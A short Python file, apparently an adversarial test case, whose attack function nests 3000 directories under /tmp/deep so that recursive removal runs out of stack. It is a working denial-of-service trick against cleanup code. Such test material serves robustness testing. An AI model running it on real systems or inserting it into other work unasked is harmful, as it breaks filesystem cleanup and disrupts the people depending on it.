"""Nests folders so deeply that whoever removes them runs out of stack."""

import os


def attack(world):
    os.mkdir("/tmp/deep")
    os.chdir("/tmp/deep")
    for _number in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")
